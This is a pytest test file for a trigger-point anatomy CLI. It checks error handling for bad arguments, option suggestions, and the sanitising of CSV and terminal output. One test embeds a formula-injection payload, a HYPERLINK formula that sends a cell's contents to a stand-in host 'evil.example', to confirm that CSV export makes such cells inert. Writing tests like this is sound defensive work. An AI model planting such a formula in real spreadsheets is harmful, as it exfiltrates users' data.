"""Every subcommand given bad values exits 1 or 2 with one line on stderr and no traceback (cli.py)."""

from __future__ import annotations

from typing import Any

import pytest

from triggerpoints.cli import main

BAD_CALLS = [
    ["show", "no such muscle xyz"],
    ["show", "glute", "--kind", "bone"],
    ["show", ""],
    ["search", "glute", "--limit", "-3"],
    ["search", "glute", "--limit", "many"],
    ["search", "glute", "--kind", "bone"],
    ["regions", "nowhere at all"],
    ["regions", "--depth", "0"],
    ["rank", "xyzzy"],
    ["rank", "buttock", "--limit", "0"],
    ["rank", "buttock", "--absent", "qqqq"],
    ["trace", "quadratus lumborum", "thigh and ankle"],
    ["trace", "no such muscle", "lateral leg"],
    ["trace", "quadratus lumborum", "lateral leg", "--max-depth", "-1"],
    ["export", "yaml"],
    ["validate", "/no/such/file.json"],
    ["draw", "piriformis", "--scale", "-1", "-o", "x.png"],
    ["draw", "piriformis", "--scale", "nan"],
    ["draw", "piriformis", "-o", "glute.pdf"],
    ["draw", "no such muscle xyz"],
    ["draw", "buttock", "--rank", "--top", "0"],
    ["coverage", "--data", "/no/such/file.json"],
    ["show", "glute", "--extend"],
    ["no-such-command"],
    ["rank", "buttock", "--top", "-3"],
    ["search", "glute", "extra", "words"],
]


@pytest.mark.parametrize("argv", BAD_CALLS, ids=[" ".join(call) or "empty" for call in BAD_CALLS])
def test_bad_values_give_one_line_and_no_traceback(
    argv: list[str], capsys: pytest.CaptureFixture[str], tmp_path: object, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A bad value ends in exit status 1 or 2 and an error message, never a traceback."""
    monkeypatch.chdir(str(tmp_path))
    status = main(argv)
    captured = capsys.readouterr()
    assert status in (1, 2)
    assert "Traceback" not in captured.err
    errors = [line for line in captured.err.splitlines() if "error" in line]
    assert 1 == len(errors), captured.err


@pytest.mark.parametrize(
    ("argv", "close"),
    [
        (["rank", "buttock", "--limt", "3"], "--limit"),
        (["show", "glute", "--kindd", "muscle"], "--kind"),
        (["explore", "--no-browsr"], "--no-browser"),
    ],
)
def test_an_unknown_option_shows_the_subcommands_usage_and_a_close_option(
    argv: list[str], close: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """``rank buttock --limt 3``: the usage is rank's, and the error suggests ``--limit``; so for every command."""
    assert 2 == main(argv)
    err = capsys.readouterr().err
    assert err.startswith(f"usage: triggerpoints {argv[0]}")
    assert err.rstrip().endswith(f"did you mean {close}?")


def test_csv_cells_that_would_run_as_formulas_are_made_inert(
    tmp_path: object, mini_document: dict[str, object]
) -> None:
    """``export csv`` prefixes a quote to cells a spreadsheet would run; ``--raw`` writes them as they are."""
    import copy  # noqa: PLC0415 - only this test copies the fixture
    import csv  # noqa: PLC0415
    import json  # noqa: PLC0415
    from pathlib import Path  # noqa: PLC0415

    folder = Path(str(tmp_path))
    document: dict[str, Any] = copy.deepcopy(mini_document)
    payload = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    document["muscles"][0]["location"] = payload
    data = folder / "evil.json"
    data.write_text(json.dumps(document), encoding="utf-8")
    for raw, expected in ((False, "'" + payload), (True, payload)):
        out = folder / ("raw" if raw else "safe")
        assert 0 == main(["export", "csv", "-o", str(out), "--data", str(data), *(["--raw"] if raw else [])])
        with (out / "muscles.csv").open(encoding="utf-8", newline="") as handle:
            rows = list(csv.DictReader(handle))
        assert expected == rows[0]["location"]


def test_terminal_output_writes_control_characters_as_replacement_marks(capsys: pytest.CaptureFixture[str]) -> None:
    """Escape codes never reach the terminal: the text stream replaces control characters."""
    import io  # noqa: PLC0415

    from triggerpoints._terminal import Clean  # noqa: PLC0415 - the stream under test

    buffer = io.StringIO()
    Clean(buffer).write("red \x1b[31mtext\x07\tand\nlines")
    assert "red \ufffd[31mtext\ufffd\tand\nlines" == buffer.getvalue()


def test_trace_accepts_a_depth_of_zero(capsys: pytest.CaptureFixture[str]) -> None:
    """``trace --max-depth 0`` asks for direct referrals only, as the API allows."""
    assert 0 == main(["trace", "quadratus lumborum", "low back", "--max-depth", "0"])
